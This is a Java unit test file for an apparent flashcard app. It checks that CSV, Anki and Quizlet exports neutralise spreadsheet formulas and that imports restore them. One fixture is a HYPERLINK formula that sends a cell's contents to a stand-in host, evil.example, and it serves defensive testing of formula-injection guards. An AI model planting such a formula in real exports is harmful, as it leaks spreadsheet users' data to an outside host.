package dev.termdeck.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import dev.termdeck.deck.Bilingual;
import dev.termdeck.deck.Card;
import dev.termdeck.deck.Deck;
import dev.termdeck.deck.Generated;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Fields that a spreadsheet would run as formulas ({@code =HYPERLINK(...)}, {@code +1}, {@code -2}, {@code @SUM})
 * are neutralised in CSV, Anki text and Quizlet exports by default, read back as they were, and written as they are
 * with formulas allowed.
 */
class FormulasTest {
    private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final Deck DECK = Deck.of("f", Bilingual.EMPTY, new Generated(null, null, List.of()), List.of(
            Card.builder("formula").term(new Bilingual(LINK, "公式")).definition(new Bilingual("+1 and more", "@SUM(A1)"))
                    .abbr("-2").tags(List.of("=tag")).build(),
            Card.builder("quoted").term(new Bilingual("'=already quoted", "引号")).definition(Bilingual.of(
                    dev.termdeck.core.Lang.EN, "'plain apostrophe")).build()));

    @Test
    void guardPutsAnApostropheInFrontOfEveryFormulaStartAndUnguardTakesItOff() {
        for (String f : List.of("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+1")) {
            assertThat(Formulas.guard(f)).as(f).isEqualTo("'" + f);
            assertThat(Formulas.unguard(Formulas.guard(f))).as(f).isEqualTo(f);
        }
        for (String f : List.of("plain", "'quoted", "a=b", "", "1-2")) {
            assertThat(Formulas.guard(f)).as(f).isEqualTo(f);
            assertThat(Formulas.unguard(f)).as(f).isEqualTo(f);
        }
        assertThat(Formulas.guardHtml("=1+1")).isEqualTo("&#61;1+1");
        assertThat(Formulas.guardHtml("-x")).isEqualTo("&#45;x");
    }

    @Test
    void csvAnkiTextAndQuizletStartNoCellWithAFormulaByDefault() {
        for (Format f : List.of(Format.CSV, Format.ANKI_TSV, Format.QUIZLET)) {
            String text = export(f, false);
            for (String line : text.split("\r?\n")) {
                if (line.startsWith("#")) {
                    continue;
                }
                for (String cell : line.split(f == Format.CSV ? "," : "\t", -1)) {
                    String c = cell.startsWith("\"") ? cell.substring(1) : cell;
                    assertThat(c.isEmpty() || !Formulas.isTrigger(c.charAt(0))).as("%s cell %s", f, cell).isTrue();
                }
            }
        }
        assertThat(export(Format.CSV, false)).contains(",\"'" + LINK.replace("\"", "\"\"") + "\",", ",'-2,",
                ",'+1 and more,", ",'@SUM(A1),", ",'=tag,", ",''=already quoted,");
        assertThat(export(Format.ANKI_TSV, false)).contains("&#61;HYPERLINK(").contains("\t'=tag\t");
        assertThat(export(Format.QUIZLET, false)).contains("'" + LINK + " (-2)\t公式");
    }

    @Test
    void withFormulasAllowedTheFieldsAreWrittenAsTheyAre() {
        assertThat(export(Format.CSV, true)).contains(",\"" + LINK.replace("\"", "\"\"") + "\",", ",-2,");
        assertThat(export(Format.QUIZLET, true)).startsWith(LINK + " (-2)\t公式");
    }

    @Test
    void importingANeutralisedExportGivesBackTheFields() {
        for (Format f : List.of(Format.CSV, Format.ANKI_TSV, Format.QUIZLET)) {
            List<Card> back = Imports.importer(f).read("x", export(f, false), null).cards();
            Card formula = back.stream().filter(c -> "公式".equals(c.term().zh())).findFirst().orElseThrow();
            // Quizlet reads "(-2)" as part of the term: only a short form starting with a letter or digit is one.
            assertThat(formula.term().en()).as(f.toString()).isEqualTo(f == Format.QUIZLET ? LINK + " (-2)" : LINK);
            if (f != Format.QUIZLET) {
                assertThat(formula.abbr()).as(f.toString()).isEqualTo("-2");
            }
            Card quoted = back.stream().filter(c -> "引号".equals(c.term().zh())).findFirst().orElseThrow();
            assertThat(quoted.term().en()).as(f.toString()).isEqualTo("'=already quoted");
        }
    }

    private static String export(Format format, boolean allow) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            Exports.export(DECK, format, new ExportOptions(ExportDirection.BOTH, Fixtures.NOW, allow), out);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toString(StandardCharsets.UTF_8);
    }
}
